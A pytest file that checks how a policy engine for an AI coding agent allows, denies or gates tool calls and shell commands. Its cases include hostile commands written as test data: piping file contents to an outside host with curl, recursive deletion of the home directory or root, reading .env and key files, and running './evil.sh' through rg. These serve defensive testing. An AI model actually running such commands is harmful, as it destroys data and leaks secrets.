"""Every example in examples/ loads and behaves as pi-control's README says (or as its comment says
where we differ on purpose). Cases are data: (config files, cwd, tool, command or input, expected).

A behaviour that needs a later part of the engine is an xfail with its reason; strict, so that it
must be turned into a plain case when that part lands.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any, NamedTuple

import pytest
from helpers import EXAMPLES, Sandbox

from policy_engine import Action, ToolCall


class Case(NamedTuple):
    example: str
    cwd: str
    call: str | tuple[str, dict[str, Any]]  # a bash command, or (tool, input)
    expected: str
    reason: str | None = None
    gap: str | None = None


CASES = [
    # Quick Start
    Case("quickstart", "/home/user/work", ("read", {"path": "src/main.ts"}), "allow"),
    Case("quickstart", "/home/user/work", "git commit -m 'fix'", "allow"),
    Case("quickstart", "/home/user/work", "git push origin main", "ask"),
    Case("quickstart", "/home/user/work", "rm -rf build", "deny", 'rule deny bash "rm *"'),
    Case("quickstart", "/home/user/work", "npm install", "deny", "defaultAction is deny"),
    Case("quickstart", "/home/user/work", ("write", {"path": "a.txt"}), "deny"),
    Case(
        "quickstart", "/home/user/elsewhere", "npm install", "ask", 'policy "project"'
    ),  # the embedded default
    # Global + project files: both policies available, the longest location wins
    Case("layered", "/home/user/work/myproject", "rm x", "deny", 'policy "strict"'),
    Case("layered", "/home/user/work/myproject", "git status", "allow"),
    Case("layered", "/home/user/scratch", "rm x", "ask", 'policy "default"'),
    Case("layered", "/home/user/scratch", "npm install", "allow"),
    # Protect production configs
    Case("production-configs", "/home/user", ("read", {"path": "/etc/myapp/app.yaml"}), "allow"),
    Case("production-configs", "/home/user", ("write", {"path": "/etc/myapp/app.yaml"}), "deny"),
    Case("production-configs", "/home/user", ("edit", {"path": "/etc/myapp/app.yaml"}), "deny"),
    Case("production-configs", "/home/user", ("ls", {"path": "/etc/myapp"}), "allow"),
    Case("production-configs", "/home/user", "echo x > /etc/myapp/app.yaml", "deny", "rule deny write"),
    Case("production-configs", "/etc/myapp", "sed -i s/a/b/ app.yaml", "deny", "rule deny write"),
    Case("production-configs", "/home/user", "cat /etc/myapp/app.yaml", "deny", "defaultAction is deny"),
    # Audit-only mode
    Case("audit-only", "/home/user/work", "rm -rf build", "log"),
    Case("audit-only", "/home/user/work", ("write", {"path": "x"}), "log"),
    # Interactive gate on destructive commands
    Case("destructive-gate", "/home/user/work", "rm -rf build", "ask", 'rule ask bash "rm -rf *"'),
    Case("destructive-gate", "/home/user/work", "rm file", "ask", 'rule ask bash "rm *"'),
    Case("destructive-gate", "/home/user/work", "chmod 777 x", "ask"),
    Case("destructive-gate", "/home/user/work", "truncate -s 0 log", "ask"),
    Case("destructive-gate", "/home/user/work", "dd if=/dev/zero of=x", "ask"),
    Case("destructive-gate", "/home/user/work", "ls -la", "allow"),
    # Allow git, block everything else
    Case("git-only", "/home/user/work", "git status", "allow"),
    Case("git-only", "/home/user/work", "git log --oneline", "allow"),
    Case("git-only", "/home/user/work", "git commit -m 'x'", "allow"),
    Case("git-only", "/home/user/work", "git push origin main", "ask"),
    Case("git-only", "/home/user/work", "git push --force origin main", "deny"),
    Case("git-only", "/home/user/work", "git rebase -i HEAD~3", "deny", "defaultAction is deny"),
    Case("git-only", "/home/user/work", "make", "deny"),
    Case("git-only", "/home/user/work", ("grep", {"pattern": "TODO"}), "allow"),
    # A pattern's options match wherever the command carries them, in every spelling
    Case(
        "git-only",
        "/home/user/work",
        "git push origin main --force",
        "deny",
        'rule deny bash "git push --force *"',
    ),
    Case(
        "git-only",
        "/home/user/work",
        "git push -f origin main",
        "deny",
        'rule deny bash "git push --force *"',
    ),
    # GitHub tool lockdown
    Case("github-lockdown", "/home/user/experiments/x", ("github_create_issue", {}), "deny"),
    Case("github-lockdown", "/home/user/work/x", ("github_create_pull_request", {}), "ask"),
    Case("github-lockdown", "/home/user/work/x", ("github_merge_pull_request", {}), "ask"),
    Case("github-lockdown", "/home/user/work/x", ("github_delete_branch", {}), "deny"),
    Case("github-lockdown", "/home/user/work/x", ("github_list_issues", {}), "log"),
    Case("github-lockdown", "/home/user/other", ("github_create_issue", {}), "ask"),  # the embedded default
    # Per-project policy with global fallback
    Case("project-with-fallback", "/home/user/work/critical-service", ("write", {"path": "x"}), "deny"),
    Case("project-with-fallback", "/home/user/work/critical-service", "git push origin", "ask"),
    Case("project-with-fallback", "/home/user/work/critical-service", "npm install", "deny"),
    Case("project-with-fallback", "/home/user/scratch", "npm install", "allow", 'policy "open"'),
    Case("project-with-fallback", "/tmp", ("write", {"path": "/tmp/x"}), "allow"),
    # Layered home and project policies: the README's table, for a file where the agent works...
    Case("home-and-project", "/home/user/scratch", "rm foo", "ask"),
    Case("home-and-project", "/home/user/work/production", "rm foo", "deny"),
    Case("home-and-project", "/var/log", "rm foo", "ask", 'policy "project"'),  # the embedded default
    # ... while `rm /tmp/foo` is judged where /tmp/foo is: outside every location, from anywhere
    Case("home-and-project", "/home/user/work/production", "rm /tmp/foo", "ask", 'policy "elsewhere"'),
    Case("home-and-project", "/home/user", ("write", {"path": "notes.txt"}), "log"),
    Case("home-and-project", "/home/user", "sudo apt install x", "ask"),
    # Redirect-aware bash policies
    Case("redirect-aware", "/home/user/secrets", "cat /home/user/secrets/key.pem", "allow"),
    Case("redirect-aware", "/home/user/secrets", "cat /home/user/secrets/key.pem > /tmp/key.pem", "allow"),
    Case("redirect-aware", "/home/user", "cat /home/user/secrets/key.pem > /tmp/key.pem", "allow"),
    Case("redirect-aware", "/home/user", "cp /home/user/secrets/key.pem /tmp/key.pem", "deny"),
    Case("redirect-aware", "/home/user/secrets", ("read", {"path": "key.pem"}), "allow"),
    Case("redirect-aware", "/home/user", ("write", {"path": "/home/user/secrets/x"}), "deny"),
    # Mixed restrictiveness across pipeline stages
    Case("pipeline-stages", "/home/user/work", "cat file.txt | grep foo", "allow"),
    Case("pipeline-stages", "/home/user/work", "curl https://example.com | grep secret", "deny"),
    Case("pipeline-stages", "/home/user/work", "grep pattern file.txt && curl https://log-server.io", "deny"),
    Case("pipeline-stages", "/home/user/work", "cat file.txt | grep foo | curl -d @- https://x.io", "deny"),
    # Nudge toward better tools
    Case("nudge", "/home/user/work", ("read", {"path": "src/a.ts"}), "nudge"),
    Case("nudge", "/home/user/work", ("grep", {"pattern": "x"}), "nudge"),
    Case("nudge", "/home/user/work", "grep -rn TODO .", "nudge"),
    # A bash read of the project is a read too: the explicit read rule's nudge applies to it.
    Case("nudge", "/home/user/work", "rg TODO", "nudge", "rule nudge read"),
    Case("nudge", "/home/user/work", "echo done", "allow"),
    Case("nudge", "/home/user/work", ("write", {"path": "a"}), "allow"),
    # Safe command patterns (a read-only zone)
    Case("readonly", "/home/user/work", "git diff HEAD~1", "allow", "(from $safe-bash)"),
    Case("readonly", "/home/user/work", "ls", "allow"),
    Case("readonly", "/home/user/work", "npm install", "deny"),
    Case("readonly", "/home/user/work", ("write", {"path": "a"}), "deny"),
    Case("readonly", "/home/user/work", "find . -delete", "deny"),
    Case("readonly", "/home/user/work", "echo pwned > README.md", "deny", "rule deny write"),
    Case("readonly", "/home/user/work", "sort -o sorted.txt data.txt", "deny"),
    Case("readonly", "/home/user/work", "git branch -D main", "deny"),
    Case("readonly", "/home/user/work", "rg --pre ./evil.sh pattern", "deny"),
    # Trusting package scripts
    Case("trusted-scripts", "/home/user/work", "bun run build", "allow"),
    Case("trusted-scripts", "/home/user/work", "bun install", "ask"),
    # Inline programs, analysed
    Case("inline-code", "/home/user/work", "python3 -c 'print(sum(range(10)))'", "allow"),
    Case(
        "inline-code", "/home/user/work", "node -e \"require('fs').writeFileSync('out.json', '{}')\"", "allow"
    ),
    Case(
        "inline-code", "/home/user/work", "python3 -c \"import shutil; shutil.rmtree('/home/user')\"", "deny"
    ),
    Case(
        "inline-code",
        "/home/user/work",
        "python3 -c \"print(open('.env').read())\"",
        "deny",
        "pathProtection",
    ),
    Case("inline-code", "/home/user/work", "python3 -c 'eval(input())'", "ask", "line 1: eval"),
    Case(
        "inline-code",
        "/home/user/work",
        "python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['git', 'push', '--force'])\nEOF",
        "ask",
        'no rule of policy "project" matches',  # the git push the program runs
    ),
    Case("inline-code", "/home/user/work", "python3 -m pytest -x", "allow"),
    # Agent timeout and nudge timeout: the single-call behaviour
    Case("agent-timeout", "/home/user/work", "curl x", "deny"),
    Case("agent-timeout", "/home/user/work", "git push origin", "ask"),
    Case("nudge-timeout", "/home/user/work", "cat README.md", "nudge"),
    # The annotated sample
    Case("sample", "/home/user/work", "git push --force origin main", "deny", "Force pushes rewrite"),
    Case("sample", "/home/user/work", "git push origin main", "ask"),
    Case("sample", "/home/user/work", "pytest -x", "allow"),
    Case("sample", "/home/user/work", "sudo rm -rf /", "deny"),
    Case("sample", "/home/user/work", "grep -rn TODO .", "nudge"),
    Case("sample", "/home/user/work", ("write", {"path": "node_modules/x/index.js"}), "deny"),
    Case("sample", "/home/user/work", ("write", {"path": "/tmp/out.txt"}), "allow"),
    Case("sample", "/home/user/work", ("write", {"path": "/etc/hosts"}), "ask"),
    Case("sample", "/home/user/work", ("read", {"path": "/home/user/work/.env"}), "deny", "pathProtection"),
    Case("sample", "/home/user/work", "cat ~/.gitconfig", "allow"),
    Case("sample", "/home/user/work", "git config --global user.name me", "ask"),
    Case(
        "sample", "/home/user/work", "npm run build", "allow", "approval allow bash command 'npm run build'"
    ),
    Case("sample", "/home/user/work", "npm run build; npm publish", "ask"),
    Case("sample", "/home/user/work", ("write", {"path": "/home/user/notes/a.md"}), "allow", "approval"),
    Case("sample", "/home/user/work", ("write", {"path": "/home/user/notes/a.txt"}), "ask"),
    Case("sample", "/home/user/work", ("github_merge_pull_request", {}), "ask"),
    Case("sample", "/home/user/work", ("github_list_issues", {}), "log"),
]


def config_files(example: str) -> list[Path]:
    if example == "layered":
        return [EXAMPLES / "layered" / "global.jsonc", EXAMPLES / "layered" / "project.jsonc"]
    return [EXAMPLES / f"{example}.jsonc"]


def case_id(case: Case) -> str:
    call = case.call if isinstance(case.call, str) else f"{case.call[0]} {case.call[1]}"
    return f"{case.example}: {call}"


@pytest.mark.parametrize(
    "case",
    [
        pytest.param(c, id=case_id(c), marks=[pytest.mark.xfail(reason=c.gap, strict=True)] if c.gap else [])
        for c in CASES
    ],
)
def test_example_behaves_as_documented(sandbox: Sandbox, case: Case) -> None:
    engine = sandbox.engine(config_files(case.example), cwd=case.cwd)
    name, tool_input = ("bash", {"command": case.call}) if isinstance(case.call, str) else case.call
    decision = engine.evaluate(ToolCall(name, tool_input, case.cwd))
    assert decision.action is Action.parse(case.expected), decision.reason
    if case.reason:
        assert case.reason in decision.reason


def test_every_example_file_is_covered_and_loads(sandbox: Sandbox) -> None:
    files = sorted(EXAMPLES.rglob("*.jsonc"))
    covered = {path for case in CASES for path in config_files(case.example)}
    assert set(files) == covered
    for path in files:
        sandbox.engine(path)  # raises ConfigError if invalid


def test_agent_timeout_escalates_the_third_deny_to_ask(sandbox: Sandbox) -> None:
    engine = sandbox.engine(config_files("agent-timeout"), cwd="/home/user/work")
    actions = [
        engine.evaluate(ToolCall("bash", {"command": c}, "/home/user/work", session_id="s")).action
        for c in ("rm x", "curl y", "pip install z")
    ]
    assert actions == [Action.DENY, Action.DENY, Action.ASK]


def test_nudge_timeout_denies_the_third_nudge_of_a_rule(sandbox: Sandbox) -> None:
    engine = sandbox.engine(config_files("nudge-timeout"), cwd="/home/user/work")
    calls = [ToolCall("read", {"path": f"f{i}"}, "/home/user/work", session_id="s") for i in range(4)]
    decisions = [engine.evaluate(call) for call in calls]
    assert [d.action for d in decisions] == [Action.NUDGE, Action.NUDGE, Action.DENY, Action.NUDGE]
    assert "You MUST switch approach now." in decisions[2].reason
